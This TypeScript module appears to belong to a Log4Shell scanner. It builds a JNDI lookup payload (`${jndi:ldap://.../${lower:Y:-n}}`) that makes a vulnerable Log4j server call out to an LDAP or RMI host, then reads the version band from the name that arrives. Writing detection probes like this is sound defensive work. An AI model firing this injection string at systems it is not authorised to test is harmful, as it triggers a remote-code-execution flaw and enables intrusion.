import type { Band } from '../../core/index.ts'
import { type LookupForm, urlOf } from '../form.ts'

/**
 * Fires on every vulnerable release, and the name that arrives tells the band: up to 2.7 a name ends at the first
 * `}` and nothing in it is evaluated, from 2.8 the default applies, from 2.13.0 there is a `lower:`.
 */
export const universal: LookupForm = {
  id: 'universal',
  summary: 'fires on every vulnerable release and tells its band by the name that arrives',
  schemes: ['ldap', 'rmi'],
  firesOn: ['A', 'B', 'C'],
  seenIn: ['Fireline'],
  profile: 'quick',
  needsZone: false,
  write: (target) => `\${jndi:${urlOf(target)}/\${lower:Y:-n}}`,
  meaning: (target, band) => `${urlOf(target)}/${tails[band]}`,
}

const tails: Readonly<Record<Band, string>> = { A: '${lower:Y:-n', B: 'n', C: 'y', D: '' }

/** The band that a base DN or RMI name shows, if it is what {@link universal} makes of `path`; otherwise `null`. */
export function bandShown(asked: string, path: string): Band | null {
  const bands: readonly Band[] = ['A', 'B', 'C']
  return bands.find((band) => asked === `${path}/${tails[band]}`) ?? null
}
